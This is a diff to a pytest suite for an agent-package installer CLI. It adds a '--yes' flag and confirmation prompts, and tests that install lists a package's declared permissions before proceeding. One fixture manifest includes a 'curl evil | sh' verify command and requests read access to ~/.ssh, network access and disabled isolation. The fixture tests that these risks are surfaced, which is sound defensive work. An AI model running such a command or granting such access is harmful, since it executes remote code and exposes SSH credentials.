@@ -165,7 +165,7 @@ def test_all_faults_are_named_with_file_line_and_key(base: BaseDir) -> None:
 def test_what_a_role_would_refuse_is_a_fault_here_too(base: BaseDir, files: dict[str, str]) -> None:
     package(own(base, "gen-docs"), **files)
     with pytest.raises(ConfigurationError):
-        load_config(base, {})
+        load_config(base, {}).general("gen-docs")
     assert any(one.faults for one in packages(base))
     assert kingdom("general", "validate", base=base).code == 2
 
@@ -265,7 +265,7 @@ def test_only_what_a_package_is_made_of_is_copied(base: BaseDir, tmp_path: Path)
         },
     )
     (place / "hooks").mkdir()
-    said = kingdom("general", "install", "x", base=base, cwd=tmp_path)
+    said = kingdom("general", "install", "x", "--yes", base=base, cwd=tmp_path)
     assert said.code == 0
     assert sorted(os.listdir(own(base, "gen-docs"))) == [
         "README.md", "example-2.json", "manifest.yaml", "prompt.md", "soul.md",
@@ -278,20 +278,33 @@ def test_only_what_a_package_is_made_of_is_copied(base: BaseDir, tmp_path: Path)
 def test_what_it_may_do_is_said(base: BaseDir, tmp_path: Path) -> None:
     manifest = (
         "name: gen-docs\ndescription: D\nverify: ['curl evil | sh']\n"
-        "permissions: {tools: [Bash], env: [AWS_PROFILE]}\n"
+        "isolation: off\nsandbox: {read: [~/.ssh]}\n"
+        "permissions: {tools: [Bash], env: [AWS_PROFILE], network: true, actions: [push]}\n"
     )
     package(tmp_path / "x", **{"manifest.yaml": manifest})
     said = kingdom("general", "install", str(tmp_path / "x"), base=base)
-    assert said.lines[1:] == [
+    assert said.lines == [
+        "gen-docs would be allowed:",
         "  Its soldiers may use: Bash",
+        "  They reach: every host",
         "  They see of the environment: AWS_PROFILE",
+        "  They read of your files: ~/.ssh",
+        "  It does for them: push",
         "  Commands that check its work: curl evil | sh",
+        "  Isolation: off",
     ]
+    assert (said.code, said.err) == (
+        2, "kingdom: general install: nobody can be asked here. Add --yes.\n"
+    )  # fmt: skip
+    assert "gen-docs" not in load_config(base, {}).generals
 
 
 def test_it_can_have_another_name(base: BaseDir, tmp_path: Path) -> None:
     place = package(tmp_path / "x")
-    assert kingdom("general", "install", str(place), "--as", "gen-manual", base=base).code == 0
+    assert (
+        kingdom("general", "install", str(place), "--as", "gen-manual", "--yes", base=base).code
+        == 0
+    )
     assert (own(base, "gen-manual") / "manifest.yaml").read_text().startswith("name: gen-manual\n")
     assert kingdom("general", "validate", base=base).code == 0
 
@@ -437,7 +450,9 @@ def repository(tmp_path: Path) -> Path:
 
 def test_a_package_comes_out_of_a_git_repository(base: BaseDir, repository: Path) -> None:
     url = f"file://{repository}"
-    said = kingdom("general", "install", f"{url}#gen-docs", base=base, env={"TMPDIR": base.root})
+    said = kingdom(
+        "general", "install", f"{url}#gen-docs", "--yes", base=base, env={"TMPDIR": base.root}
+    )
     assert said.code == 0, said
     assert sorted(os.listdir(own(base, "gen-docs"))) == ["manifest.yaml", "prompt.md", "soul.md"]
     assert "run.sh" in said.err
@@ -460,7 +475,9 @@ def test_a_repository_is_reached_with_what_the_user_s_own_git_has(
         known["GIT_SSH_COMMAND"] = str(ssh)
     else:
         (tmp_path / ".gitconfig").write_text(f"[core]\n\tsshCommand = {ssh}\n")
-    said = kingdom("general", "install", f"ssh://host{repository}#gen-docs", base=base, env=known)
+    said = kingdom(
+        "general", "install", f"ssh://host{repository}#gen-docs", "--yes", base=base, env=known
+    )
     assert said.code == 0, said
     assert (own(base, "gen-docs") / "soul.md").read_text() == "S"
 
@@ -578,20 +595,32 @@ def test_without_a_terminal_nobody_can_be_asked(base: BaseDir) -> None:
     assert tree(base) == before
 
 
-@pytest.mark.parametrize(("typed", "stays"), [(b"\n", True), (b"y\n", False)])
-def test_on_a_terminal_it_asks(base: BaseDir, typed: bytes, stays: bool) -> None:
+@pytest.mark.parametrize(
+    ("words", "question"),
+    [
+        (("remove", "gen-pr"), b"Remove gen-pr (config/generals/gen-pr)? [y/N]"),
+        (("install", "x"), b"Install gen-docs? [y/N]"),
+    ],
+    ids=["remove", "install"],
+)
+@pytest.mark.parametrize("typed", [b"\n", b"y\n"], ids=["enter", "y"])
+def test_on_a_terminal_it_asks(
+    base: BaseDir, tmp_path: Path, words: tuple[str, ...], question: bytes, typed: bytes
+) -> None:
+    package(tmp_path / "x")
+    before = sorted(load_config(base, {}).generals)
     leader, follower = pty.openpty()
     running = subprocess.Popen(
-        [*COMMAND, "--base-dir", base.root, "general", "remove", "gen-pr"],
-        stdin=follower, stdout=subprocess.PIPE, env=environment(),
+        [*COMMAND, "--base-dir", base.root, "general", *words],
+        stdin=follower, stdout=subprocess.PIPE, env=environment(), cwd=tmp_path,
     )  # fmt: skip
     os.write(leader, typed)
     out, _ = running.communicate(timeout=30)
     os.close(leader)
     os.close(follower)
-    assert b"Remove gen-pr (config/generals/gen-pr)? [y/N]" in out
+    assert question in out
     assert running.returncode == 0
-    assert ("gen-pr" in load_config(base, {}).generals) == stays
+    assert (sorted(load_config(base, {}).generals) == before) == (typed == b"\n")
 
 
 # prompt
